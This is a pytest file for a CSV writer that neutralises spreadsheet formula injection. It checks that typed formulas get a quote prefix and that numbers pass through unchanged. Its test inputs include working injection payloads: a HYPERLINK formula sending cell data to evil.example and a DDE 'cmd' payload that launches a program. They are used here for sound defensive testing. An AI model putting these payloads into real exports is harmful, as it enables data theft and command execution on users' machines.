"""The one CSV writer neutralises formulas people typed and leaves numbers alone (issue 14)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from dualpower.spreadsheet import csv_writer, safe_cell


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5.00", "-5.00"),
        ("+12", "+12"),
        ("-3,50", "-3,50"),
        ("Rent for March", "Rent for March"),
        ("", ""),
    ],
)
def test_typed_text_never_becomes_a_formula(typed: str, written: str) -> None:
    assert safe_cell(typed) == written


def test_numbers_and_empty_cells_keep_their_type() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_cell(None) == ""


def test_the_writer_writes_every_row_through_safe_cell() -> None:
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["memo", "amount"])
    writer.writerows([["=1+1", Decimal("-2.00")], ["lunch", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["memo", "amount"],
        ["'=1+1", "-2.00"],
        ["lunch", "3"],
    ]
